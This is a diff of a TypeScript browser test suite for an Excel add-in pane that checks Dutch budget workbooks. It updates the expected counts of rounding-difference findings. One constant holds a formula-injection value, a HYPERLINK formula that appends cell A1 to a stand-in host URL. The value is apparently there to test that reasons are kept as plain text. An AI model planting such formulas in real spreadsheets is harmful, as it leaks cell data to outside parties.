@@ -11,13 +11,13 @@ import { paneSuite } from "../support/paneSuite";
 
 /*
  * Accepting and ignoring findings in the production build (Debian Chromium, 320 px). The example has one fout,
- * Begroting D24 (438 where the explanation adds up to 436), 22 afrondingsverschillen, the first Samenvatting
+ * Begroting D24 (438 where the explanation adds up to 436), 21 afrondingsverschillen, the first Samenvatting
  * C32 (52% where 53% follows), and 19 info (README; test/berap/example.test.ts). In Excel (the strict fake)
  * the decisions go to a very hidden sheet of text cells and survive a re-check and a reopened workbook until
  * a figure changes; standalone they go into a saved copy that the pane and berap-check both honour.
  */
 const suite = paneSuite();
-const START = "1 fout, 22 afrondingsverschillen, 19 info";
+const START = "1 fout, 21 afrondingsverschillen, 19 info";
 const HOSTILE_REASON = '=HYPERLINK("https://x.invalid/?"&A1) zie memo';
 
 /** A pane "in Excel" on a fake workbook: the example, or the sheets a previous pane left ("reopen"). */
@@ -71,7 +71,7 @@ describe("accepting and ignoring in Excel (strict fake)", () => {
         "",
         "Samenvatting C32 geaccepteerd als afrondingsverschil."
       );
-      await waitOverview(page, "1 fout, 21 afrondingsverschillen, 19 info · 1 geaccepteerd");
+      await waitOverview(page, "1 fout, 20 afrondingsverschillen, 19 info · 1 geaccepteerd");
       // Keyboard only: Negeren, the form, the reason, Enter on Opslaan.
       await page.getByRole("button", { name: "Negeren: Fout Begroting D24" }).focus();
       await page.keyboard.press("Enter");
@@ -81,7 +81,7 @@ describe("accepting and ignoring in Excel (strict fake)", () => {
       await page.getByTestId("besluit-melding").getByText("Begroting D24 genegeerd.").waitFor();
       await waitOverview(
         page,
-        "0 fouten, 21 afrondingsverschillen, 19 info · 1 geaccepteerd, 1 genegeerd"
+        "0 fouten, 20 afrondingsverschillen, 19 info · 1 geaccepteerd, 1 genegeerd"
       );
       // The finding left the list; focus went on to the next finding, whose headline has it.
       await expect(
@@ -117,7 +117,7 @@ describe("accepting and ignoring in Excel (strict fake)", () => {
 
       await runCheck(page);
       await expect(overview(page)).resolves.toBe(
-        "0 fouten, 21 afrondingsverschillen, 19 info · 1 geaccepteerd, 1 genegeerd"
+        "0 fouten, 20 afrondingsverschillen, 19 info · 1 geaccepteerd, 1 genegeerd"
       );
 
       // The report sheet lists the decided findings apart, under their own title, their reason as text.
@@ -151,7 +151,7 @@ describe("accepting and ignoring in Excel (strict fake)", () => {
     try {
       await runCheck(page);
       await expect(overview(page)).resolves.toBe(
-        "0 fouten, 21 afrondingsverschillen, 19 info · 1 geaccepteerd, 1 genegeerd"
+        "0 fouten, 20 afrondingsverschillen, 19 info · 1 geaccepteerd, 1 genegeerd"
       );
       // The controller changes Begroting D24 from 438 to 440 (row 24, column D: 0-based 23, 3).
       await page.evaluate(() => {
@@ -297,7 +297,7 @@ describe("accepting and ignoring standalone: the saved copy", () => {
       );
       await waitOverview(
         page,
-        "0 fouten, 21 afrondingsverschillen, 19 info · 1 geaccepteerd, 1 genegeerd"
+        "0 fouten, 20 afrondingsverschillen, 19 info · 1 geaccepteerd, 1 genegeerd"
       );
       await page.getByTestId("niet-bewaard").waitFor();
       const download = page.waitForEvent("download");
@@ -315,7 +315,7 @@ describe("accepting and ignoring standalone: the saved copy", () => {
       await openFile(second.page, copy);
       await runCheck(second.page);
       await expect(overview(second.page)).resolves.toBe(
-        "0 fouten, 21 afrondingsverschillen, 19 info · 1 geaccepteerd, 1 genegeerd"
+        "0 fouten, 20 afrondingsverschillen, 19 info · 1 geaccepteerd, 1 genegeerd"
       );
     } finally {
       await second.context.close();
